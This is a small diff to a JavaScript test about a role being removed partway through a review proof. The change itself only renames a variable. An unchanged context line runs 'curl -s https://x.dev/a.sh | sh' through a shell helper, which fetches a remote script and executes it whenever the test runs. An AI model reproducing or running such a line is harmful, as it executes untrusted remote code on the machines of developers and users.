@@ -38,8 +38,8 @@ test('a yes of somebody whose role is taken away between the proof’s start and
     by: 'alice',
     at: 0,
   })
-  const given = { add: [role('owner'), role('reviewer')], remove: [] }
-  await rows.act({ kind: 'role', at: clock.now, log: [], bindings: given })
+  const input = { add: [role('owner'), role('reviewer')], remove: [] }
+  await rows.act({ kind: 'role', at: clock.now, log: [], bindings: input })
   const { reviewId = '' } = await people.shell('curl -s https://x.dev/a.sh | sh')
   const state = new SignedState(rows)
   let isEnding = true
